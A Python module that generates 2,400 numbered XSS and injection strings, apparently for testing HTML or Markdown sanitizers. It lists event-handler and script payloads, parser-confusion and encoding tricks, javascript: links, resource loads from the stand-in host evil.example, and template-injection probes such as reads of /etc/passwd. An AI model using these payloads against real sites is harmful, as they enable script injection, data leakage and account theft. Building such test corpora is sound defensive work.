"""攻击串：our own ways to smuggle markup, script and requests into a text, from a small grammar.

Each calls `hit(N)` with its own number when it runs, or asks for a file of another host.
"""

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from itertools import product
from random import Random

TOTAL = 2_400
HOST = "evil.example"

EVENTS = (
    *("onload", "onerror", "onclick", "onfocus", "onmouseover", "onmouseenter", "ontoggle"),
    *("onanimationstart", "onbegin", "onpointerover", "oncut", "onwheel", "onscroll", "oninput"),
    *("onkeydown", "onauxclick", "onbeforetoggle", "onplay"),
)
SELF_STARTING = (
    "<img src=x onerror={js}>",
    "<img/src=x/onerror={js}>",
    "<img src=x\nonerror\n=\n{js}>",
    "<IMG SRC=x OnErRoR={js}>",
    "<img src=`x` onerror={js}>",
    '<img src="x" alt="`<" onerror="{js}">',
    "<image src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<svg><g onload={js}></g></svg>",
    "<svg><script>{js}</script></svg>",
    "<svg><script href=data:,{js} />",
    "<svg><animate onbegin={js} attributeName=x dur=1s></svg>",
    "<svg><set onbegin={js} attributename=x></svg>",
    "<svg><style><img src=x onerror={js}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}></style></mglyph></table></mtext></math>",
    "<body onload={js}>",
    "<body onpageshow={js}>",
    "<script>{js}</script>",
    "<script >{js}</script >",
    "<SCRIPT>{js}</SCRIPT>",
    "<script/x>{js}</script>",
    "<script type=module>{js}</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<script src=data:text/javascript,{js}></script>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe src='javascript:parent.{js}'></iframe>",
    "<iframe onload={js}></iframe>",
    "<object data='javascript:{js}'></object>",
    "<object onerror={js} data=x></object>",
    "<embed src=x onerror={js}>",
    "<video src=x onerror={js}></video>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}></audio>",
    "<input autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<select autofocus onfocus={js}></select>",
    "<details open ontoggle={js}>",
    "<link rel=stylesheet href=x onerror={js}>",
    "<style onload={js}></style>",
    "<marquee onstart={js}>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<template><img src=x onerror={js}></template><img src=x onerror={js}>",
    "<a><b id='</a><img src=x onerror={js}>'>",
    "<!--><img src=x onerror={js}>-->",
    "<!-- --!><img src=x onerror={js}> -->",
    "<![CDATA[<img src=x onerror={js}>]]>",
    "<?php <img src=x onerror={js}> ?>",
    "<x style='animation-name:spin' onanimationstart={js}>",
)
BREAKOUTS = (
    '">',
    "'>",
    '" ',
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "-->",
    "]]>",
    "</h1>",
    "</a>",
    "</td></tr></table>",
    "`>",
    '\\">',
    "}}",
    "*/",
    "&quot;>",
    "%22%3E",
    "\u2028",
    "＞",
)
"""what may close the place that a text stands in"""
ATTRIBUTES = (
    '" {event}={js} x="',
    "' {event}={js} x='",
    " {event}={js} ",
    '" autofocus {event}="{js}" tabindex=1 x="',
    '"style="background:url(//evil.example/{n})"{event}="{js}',
)
LINKS = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "java\tscript:{js}",
    "javascript&colon;{js}",
    "&#106;avascript:{js}",
    "&#x6a;avascript:{js}",
    " javascript:{js}",
    "\x01javascript:{js}",
    "javascript://%0a{js}",
    "vbscript:{js}",
    "data:text/html,<script>{js}</script>",
    "data:image/svg+xml,<svg onload={js}>",
    "//evil.example/{n}",
    "\\\\evil.example\\{n}",
    "/\\evil.example/{n}",
    "https:evil.example/{n}",
    "feed:javascript:{js}",
    "view-source:javascript:{js}",
)
WRAPPINGS = (
    "{link}",
    "[点这里]({link})",
    "[点这里](<{link}>)",
    "![图]({link})",
    "<{link}>",
    "[点]: {link}",
    '<a href="{link}">点</a>',
    "<a href='{link}' target=_top>点</a>",
    '<form action="{link}"><button>点</button></form>',
    '<button formaction="{link}">点</button>',
    '<iframe src="{link}"></iframe>',
    '<svg><a xlink:href="{link}"><text>点</text></a></svg>',
    '<svg><use href="{link}#x"/></svg>',
    '<base href="{link}">',
    '<area href="{link}">',
    '<math href="{link}">点</math>',
)
REMOTE = (
    "<img src=//evil.example/{n}.png>",
    "<img srcset='//evil.example/{n}.png 2x'>",
    "<picture><source srcset=//evil.example/{n}.webp><img></picture>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<link rel=prefetch href=//evil.example/{n}>",
    "<link rel=dns-prefetch href=//evil.example/{n}>",
    "<style>@import '//evil.example/{n}.css';</style>",
    "<style>*{{background:url(//evil.example/{n})}}</style>",
    "<p style='background:url(//evil.example/{n})'>",
    "<p style='font:url(//evil.example/{n})'>",
    "<body background=//evil.example/{n}.png>",
    "<table background=//evil.example/{n}.png><tr><td>",
    "<video poster=//evil.example/{n}.png></video>",
    "<audio src=//evil.example/{n}.mp3 autoplay></audio>",
    "<track src=//evil.example/{n}.vtt>",
    "<iframe src=//evil.example/{n}></iframe>",
    "<object data=//evil.example/{n}></object>",
    "<embed src=//evil.example/{n}>",
    "<script src=//evil.example/{n}.js></script>",
    "<input type=image src=//evil.example/{n}.png>",
    "<svg><image href=//evil.example/{n}.png /></svg>",
    "<svg><feImage href=//evil.example/{n}.png /></svg>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "![图](//evil.example/{n}.png)",
    "![图](https://evil.example/{n}.png)",
    "<a href=x ping=//evil.example/{n}>点</a>",
)
TEMPLATES = (
    "{{{{ 7*7 }}}}",
    "{{% include '/etc/passwd' %}}",
    "${{{js}}}",
    "#{{{js}}}",
    "<%= {js} %>",
    "{{{{ ''.__class__.__mro__ }}}}",
    "{{{{ config }}}}",
    "{{: onclick={js} }}",
    '--8<-- "/etc/passwd"',
    "{{{{constructor.constructor('{js}')()}}}}",
    '</script><script type="application/ld+json">{{"x":1}}</script><script>{js}</script>',
    '","x":"</script><script>{js}</script>',
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "%3Cscript%3E{js}%3C/script%3E",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&amp;lt;img src=x onerror={js}&amp;gt;",
    "＜script＞{js}＜/script＞",
    "<ſcript>{js}</ſcript>",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
)
HOLDERS = ("b", "p", "div", "a", "td", "svg", "li", "h2", "figure", "label", "q", "x-y")


def vectors(total: int = TOTAL, seed: int = 0) -> list[str]:
    """攻击串, `total` different ones in a fixed order; their numbers are their places."""
    written = sorted(set(_shapes()))
    Random(seed).shuffle(written)
    if len(written) < total:
        raise ValueError(f"只有 {len(written)} 种写法，要 {total} 种")
    return [_number(shape, number) for number, shape in enumerate(written[:total])]


def _shapes() -> Iterator[str]:
    """Shapes with N where the number of the vector goes."""
    starting = [shape.replace("{js}", "hit(N)") for shape in SELF_STARTING]
    yield from starting
    yield from (close + shape for close, shape in product(BREAKOUTS, starting))
    for tag, event in product(HOLDERS, EVENTS):
        yield f"<{tag} {event}=hit(N)>字</{tag}>"
        yield f'<{tag} tabindex=0 {event}="hit(N)" contenteditable>字'
    for shape, event in product(ATTRIBUTES, EVENTS):
        yield shape.format(event=event, js="hit(N)", n="N")
    for shape, link in product(WRAPPINGS, LINKS):
        yield shape.format(link=link.format(js="hit(N)", n="N"))
    yield from (shape.format(js="hit(N)", n="N") for shape in (*REMOTE, *TEMPLATES))
    yield from (f"{close}{shape.format(n='N')}" for close, shape in product(BREAKOUTS, REMOTE))
    yield from (escape(shape) for shape in starting)
    yield from (f"`{shape}`" for shape in starting)
    yield from (f"**{shape}**" for shape in starting)


def _number(shape: str, number: int) -> str:
    return shape.replace("(N)", f"({number})").replace("/N", f"/{number}")
